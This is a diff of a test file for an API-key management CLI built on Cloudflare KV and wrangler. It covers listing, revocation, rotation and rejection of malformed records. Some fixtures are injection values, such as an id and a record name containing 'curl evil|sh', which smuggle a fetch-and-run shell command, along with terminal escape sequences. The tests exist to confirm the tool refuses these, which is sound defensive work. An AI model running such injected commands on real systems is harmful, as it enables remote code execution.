@@ -61,13 +61,10 @@ test('list shows each key with its scopes and state, the oldest first', async ()
   expect(rows.map(Object.values)).toEqual([anna, bob]);
 });
 
-test('a failed read of other keys does not keep revoke from a key, and is a failure', async () => {
+test('list has every key of more than one read', async () => {
   // Wrangler reads 100 at once.
   for (let i = 100; i <= 300; i += 1) fake.put({ ...ANNA, id: `key_${i}` });
-  fake.failing = nameOf('key_100');
-  const { code, stdout, stderr } = await fake.run('revoke key_300');
-  expect([code, stdout]).toEqual([1, expect.stringContaining('Key key_300 (Anna) is revoked. ')]);
-  expect(stderr).toBe('error: KV fails\nerror: only 101 of the 201 records in KV could be read\n');
+  expect((await fake.run('list')).stdout.split('\n')).toHaveLength(202);
 });
 
 test('revoke keeps the rest of a record, and changes nothing the second time', async () => {
@@ -171,10 +168,8 @@ test('a label of 100 characters is accepted, but not one of 101', async () => {
   expect(fake.records()).toMatchObject([{ label }]);
 });
 
-test('only in Cloudflare, an unknown id may be one that is not listed yet', async () => {
-  const problem = 'error: there is no key with this id';
-  expect(await errorOf(1, 'revoke key_x')).toBe(`${problem}\n`);
-  expect(await errorOf(1, 'rotate key_x --env staging')).toContain(`${problem}: a new key is `);
+test.each(['revoke', 'rotate'])('%s of an unknown id is refused', async (command) => {
+  expect(await errorOf(1, `${command} key_x`)).toContain('error: there is no key with this id (');
 });
 
 test('a key that is passed as an argument is refused, and not printed', async () => {
@@ -189,35 +184,24 @@ test('revoke finds no key of another environment, and none without a record', as
   expect(other).toContain(
     'error: the input is not an API key of --env staging: paste the key alone',
   );
-  const name = await recordName(KEY);
-  expect(unknown).toContain(`KV has no valid record ${name}.`);
-  expect(unknown).toContain(
-    ` kv key delete ${name} --binding API_KEYS --local --env= --config wrangler.toml\n`,
-  );
+  expect(unknown).toContain(`KV has no valid record ${await recordName(KEY)}:`);
   expect(other + unknown).not.toContain(KEY);
 });
 
-const HASH = nameOf('x');
-const DELETE = `npx wrangler kv key delete ${HASH} --binding API_KEYS --remote --env staging --config wrangler.toml`;
-const ODD_NAME = "delete this record, whose name is invalid: key:x'; curl evil|sh #\uFFFD";
-test.each<[title: string, change: object, name?: string, error?: string]>([
+test.each([
   ['no label', { label: undefined }],
   ['an id for a shell', { id: 'x; curl evil|sh #' }],
   ['an id that is an option', { id: '--yes' }],
-  ['an id of 65 characters', { id: 'x'.repeat(65) }],
-  ['a name for a shell', {}, "key:x'; curl evil|sh #\u001b", ODD_NAME],
-])(
-  'a record with %s fails each command, and other keys are revoked all the same',
-  async (_, change, name = HASH, error = DELETE) => {
-    fake.put(ANNA);
-    fake.put({ ...ANNA, ...change }, name);
-    const list = await fake.run('list --env staging');
-    const revoke = await fake.run('revoke key_anna --env staging');
-    for (const { code, stderr } of [list, revoke])
-      expect([code, stderr.includes(`: ${error}\n`)]).toEqual([1, true]);
-    expect(fake.records()[0]).toEqual(REVOKED);
-  },
-);
+])('a record with %s is named, and other keys are revoked all the same', async (_, change) => {
+  fake.put(ANNA);
+  fake.put({ ...ANNA, ...change }, 'key:x\u001b');
+  const list = await fake.run('list --env staging');
+  const revoke = await fake.run('revoke key_anna --env staging');
+  const problem = 'error: KV has no valid record key:x\uFFFD: docs/keys.md#delete-a-record\n';
+  for (const { code, stderr } of [list, revoke])
+    expect([code, stderr]).toEqual([1, expect.stringContaining(problem)]);
+  expect(fake.records()[0]).toEqual(REVOKED);
+});
 
 test('a planted record that is too large for the metadata is revoked, and backups lack it', async () => {
   const planted = { ...ANNA, note: 'x'.repeat(999_999) };
@@ -264,11 +248,6 @@ test.each(['list', 'revoke key_anna', 'rotate key_anna', 'revoke key_\u001b[2J']
     expect((stdout + stderr).replaceAll(/[\n\t]/g, '')).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}]/u);
   },
 );
-
-test('a key that would expire after the year 9999 is not issued', async () => {
-  fake.put({ ...ANNA, expiresAt: '9999-12-31T23:59:59.999Z' });
-  expect(await errorOf(1, 'rotate key_anna')).toContain('expiresAt');
-});
 
 test.each([
   ['is expired', { expiresAt: NOW }],
